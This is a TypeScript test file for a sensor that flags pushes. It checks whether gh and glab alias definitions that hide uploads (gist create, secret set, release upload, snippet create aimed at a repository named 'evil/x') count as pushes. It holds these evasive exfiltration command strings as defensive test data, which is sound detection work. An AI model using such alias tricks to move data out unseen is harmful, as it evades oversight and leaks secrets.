import { describe, expect, it } from 'vitest';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { DestinationClassifier } from '../../../src/correlate/destinations.js';
import { recognizeProcess } from '../../../src/rules/index.js';

const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
const kindOf = (binary: string, args: string, argvCount?: number) => {
  const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null, argvCount }, (h, p) =>
    classifier.isUploadTarget(h, p),
  );
  return r?.kind === 'push' ? `push ${r.tool} ${r.remote ?? '-'}` : (r?.kind ?? null);
};

describe('gh and glab alias definitions (red-team review)', () => {
  it('an alias whose expansion pushes is that push, quoted or joined by the sensor', () => {
    expect(kindOf('/usr/bin/gh', "alias set up 'gist create'")).toBe('push gh -');
    expect(kindOf('/usr/bin/gh', 'alias set up gist create', 4)).toBe('push gh -');
    expect(kindOf('/usr/bin/gh', "alias set --clobber s 'secret set -R evil/x'")).toBe('push gh evil/x');
    expect(kindOf('/usr/bin/gh', "alias set rel 'release upload $1 $2 -R evil/x'")).toBe('push gh evil/x');
    expect(kindOf('/usr/bin/glab', "alias set sn 'snippet create -R evil/x'")).toBe('push glab evil/x');
  });

  it('an alias that pushes nothing, a shell alias (its command line runs itself) and stdin are not', () => {
    expect(kindOf('/usr/bin/gh', "alias set co 'pr checkout'")).toBeNull();
    expect(kindOf('/usr/bin/gh', "alias set -s up 'gh gist create'")).toBeNull();
    expect(kindOf('/usr/bin/gh', "alias set up '!gh gist create'")).toBeNull();
    expect(kindOf('/usr/bin/gh', 'alias set up -')).toBeNull();
    expect(kindOf('/usr/bin/gh', 'alias list')).toBeNull();
    expect(kindOf('/usr/local/bin/tool', "alias set up 'gist create'")).toBeNull();
  });
});
